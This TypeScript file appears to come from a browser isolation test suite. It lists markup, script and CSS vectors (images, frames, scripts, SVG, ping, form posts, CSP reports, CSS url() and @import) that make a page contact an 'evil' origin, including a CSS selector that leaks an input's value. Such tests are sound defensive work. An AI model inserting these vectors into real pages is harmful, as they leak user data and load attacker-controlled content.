// Attacks that let an element or a style load something. Each is one piece of markup.
import type { Arena, Attack } from '../attack.ts';
import { element, link, markup, style } from '../page/in-page.ts';

type Load = readonly [id: string, title: string, run: (arena: Arena) => unknown, more?: Partial<Attack>];
const html =
  (write: (evil: string) => string) =>
  ({ evil }: Arena): void =>
    markup(write(evil));
const css =
  (write: (evil: string) => string) =>
  ({ evil, id }: Arena): void => {
    element('div', { id: `css-${id}` }).textContent = 'x';
    style(write(evil).replaceAll('#x', `#css-${id}`));
  };
const svg = (inner: string): string =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9">${inner}</svg>`;

const BY_ELEMENT: readonly Load[] = [
  ['img', 'Image', html((evil) => `<img src="${evil}/a.svg">`)],
  ['img-srcset', 'Image by `srcset`', html((evil) => `<img srcset="${evil}/a.svg 1x, ${evil}/b.svg 2x">`)],
  ['picture', 'Picture source', html((evil) => `<picture><source srcset="${evil}/a.svg"><img></picture>`)],
  ['input-image', 'Image button', html((evil) => `<input type="image" src="${evil}/a.svg">`)],
  ['body-background', 'Background attribute', html((evil) => `<table background="${evil}/a.svg"><tr><td>x</table>`)],
  ['audio', 'Sound', html((evil) => `<audio src="${evil}/a.ogg" preload="auto"></audio>`)],
  ['video', 'Video', html((evil) => `<video src="${evil}/a.webm" preload="auto"></video>`)],
  ['video-poster', 'Poster of a video', html((evil) => `<video poster="${evil}/a.svg"></video>`)],
  [
    'media-source',
    'Source inside a video',
    html((evil) => `<video preload="auto"><source src="${evil}/a.webm" type="video/webm"></video>`),
  ],
  [
    'track',
    'Subtitles of a video',
    html((evil) => `<video crossorigin="anonymous"><track src="${evil}/a.vtt" default kind="subtitles"></video>`),
  ],
  ['script', 'Script', ({ evil }) => element('script', { src: `${evil}/script.js` })],
  ['module-script', 'Module script', ({ evil }) => element('script', { src: `${evil}/script.js`, type: 'module' })],
  ['jsonp', 'Script that calls back (JSONP)', ({ evil }) => element('script', { src: `${evil}/jsonp.js?callback=x` })],
  [
    'svg-script',
    'Script inside an SVG',
    ({ evil }) => {
      const script = document.createElementNS('http://www.w3.org/2000/svg', 'script');
      script.setAttribute('href', `${evil}/script.js`);
      const image = document.createElementNS('http://www.w3.org/2000/svg', 'svg');
      image.append(script);
      document.body.append(image);
    },
  ],
  ['iframe', 'Frame', html((evil) => `<iframe src="${evil}/frame"></iframe>`)],
  [
    'iframe-srcdoc',
    'Image in a `srcdoc` frame',
    html((evil) => `<iframe srcdoc="<img src='${evil}/a.svg'>"></iframe>`),
  ],
  [
    'iframe-data',
    'Image in a `data:` frame',
    html((evil) => `<iframe src="data:text/html,<img src='${evil}/a.svg'>"></iframe>`),
  ],
  [
    'iframe-blank',
    'Image in an empty frame',
    ({ evil }) => {
      const frame = element('iframe') as HTMLIFrameElement;
      frame.contentDocument?.body.append(Object.assign(document.createElement('img'), { src: `${evil}/a.svg` }));
    },
  ],
  ['frameset', 'Old-style frame', html((evil) => `<object type="text/html" data="${evil}/frame"></object>`)],
  [
    'fenced-frame',
    'Fenced frame',
    ({ evil }) => {
      const frame = element('fencedframe') as HTMLElement & { config?: unknown };
      const { FencedFrameConfig } = globalThis as unknown as { FencedFrameConfig?: new (url: string) => unknown };
      if (FencedFrameConfig !== undefined) frame.config = new FencedFrameConfig(`${evil}/frame`);
    },
  ],
  ['portal', 'Portal', html((evil) => `<portal src="${evil}/frame"></portal>`)],
  ['object', 'Object', html((evil) => `<object data="${evil}/a.svg" type="image/svg+xml"></object>`)],
  ['embed', 'Embedded content', html((evil) => `<embed src="${evil}/a.svg" type="image/svg+xml">`)],
  ['svg-image', 'Image inside an SVG', html((evil) => svg(`<image href="${evil}/a.svg" width="9" height="9"/>`))],
  ['svg-use', 'SVG `use` of another file', html((evil) => svg(`<use href="${evil}/a.svg#x"/>`))],
  [
    'svg-fe-image',
    'Image of an SVG filter',
    html((evil) =>
      svg(`<filter id="f"><feImage href="${evil}/a.svg"/></filter><rect width="9" height="9" filter="url(#f)"/>`),
    ),
  ],
  [
    'xslt-stylesheet',
    'Style sheet of an XML document in a frame',
    html((evil) => {
      const xml = `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="${evil}/sheet.xsl"?><x/>`;
      return `<iframe src="${URL.createObjectURL(new Blob([xml], { type: 'text/xml' }))}"></iframe>`;
    }),
  ],
  [
    'mathml-link',
    'Click on a MathML link',
    ({ evil }) => {
      markup(`<math><mrow id="math" href="${evil}/frame"><mi>x</mi></mrow></math>`);
      document.getElementById('math')?.dispatchEvent(new MouseEvent('click', { bubbles: true }));
    },
    { alone: true },
  ],
  [
    'anchor-ping',
    'Ping of a link that is clicked',
    ({ evil }) => {
      markup('<iframe name="ping"></iframe>');
      element('a', { href: '/undeclared-worker.js', target: 'ping', ping: `${evil}/ping` }).click();
    },
  ],
  [
    'form-to-frame',
    'Form posted into a frame',
    ({ evil }) => {
      markup('<iframe name="hole"></iframe>');
      (element('form', { action: `${evil}/form`, method: 'post', target: 'hole' }) as HTMLFormElement).submit();
    },
  ],
  [
    'window-frame-link',
    'Link clicked into a frame',
    ({ evil }) => {
      markup('<iframe name="hole2"></iframe>');
      element('a', { href: `${evil}/frame`, target: 'hole2' }).click();
    },
  ],
  [
    'document-write',
    'Image written into a new document',
    ({ evil }) => {
      const frame = element('iframe') as HTMLIFrameElement;
      frame.contentDocument?.write(`<img src="${evil}/a.svg">`);
      frame.contentDocument?.close();
    },
  ],
  [
    'csp-report',
    'Reports of an own policy',
    ({ evil }) => {
      const content = `img-src 'self' data: blob: http: https:; report-uri ${evil}/report`;
      element('meta', { 'http-equiv': 'Content-Security-Policy', content }, document.head);
      element('img', { src: 'data2:blocked' });
    },
    { control: 'top' },
  ],
  [
    'reporting-endpoint',
    'Reports of an own policy, by a header in a meta element',
    ({ evil }) => {
      element('meta', { 'http-equiv': 'Reporting-Endpoints', content: `main="${evil}/report"` }, document.head);
      element(
        'meta',
        { 'http-equiv': 'Report-To', content: `{"endpoints":[{"url":"${evil}/report"}]}` },
        document.head,
      );
    },
  ],
];

const BY_STYLE: readonly Load[] = [
  ['css-background', 'Background image', css((evil) => `#x { background: url(${evil}/a.svg) }`)],
  ['css-image-set', 'Image set', css((evil) => `#x { background: image-set("${evil}/a.svg" 1x) }`)],
  ['css-border-image', 'Border image', css((evil) => `#x { border: 1px solid; border-image: url(${evil}/a.svg) 1 }`)],
  ['css-list-style', 'List marker', css((evil) => `#x { display: list-item; list-style: url(${evil}/a.svg) }`)],
  ['css-content', 'Generated content', css((evil) => `#x::before { content: url(${evil}/a.svg) }`)],
  ['css-cursor', 'Cursor', css((evil) => `#x { cursor: url(${evil}/a.svg), auto }`)],
  ['css-mask', 'Mask', css((evil) => `#x { mask: url(${evil}/a.svg#m); -webkit-mask-image: url(${evil}/a.svg) }`)],
  ['css-filter', 'Filter of another file', css((evil) => `#x { filter: url(${evil}/a.svg#f) }`)],
  ['css-clip-path', 'Clip path of another file', css((evil) => `#x { clip-path: url(${evil}/a.svg#c) }`)],
  ['css-shape', 'Shape', css((evil) => `#x { float: left; width: 9px; shape-outside: url(${evil}/a.svg) }`)],
  [
    'css-font-face',
    'Font of a style sheet',
    css((evil) => `@font-face { font-family: Evil; src: url(${evil}/f.woff2) } #x { font-family: Evil }`),
  ],
  ['css-import', 'Imported style sheet', css((evil) => `@import url(${evil}/a.css);`)],
  [
    'css-attribute-leak',
    'Style that tells what stands in a field',
    ({ evil }) => {
      element('input', { value: 'secret', id: 'css-leak' });
      style(`#css-leak[value^="s"] { background: url(${evil}/starts-with-s.svg) }`);
    },
  ],
  ['css-inline', 'Style attribute', html((evil) => `<p style="background: url(${evil}/a.svg)">x</p>`)],
  ['css-link', 'Linked style sheet', ({ evil }) => link('stylesheet', `${evil}/a.css`)],
];

const toAttack = ([id, title, run, more]: Load): Attack => ({
  id,
  title,
  threat: 'T113',
  judge: 'connection',
  run,
  ...more,
});
export const ELEMENTS: readonly Attack[] = BY_ELEMENT.map(toAttack);
export const STYLES: readonly Attack[] = BY_STYLE.map(toAttack);
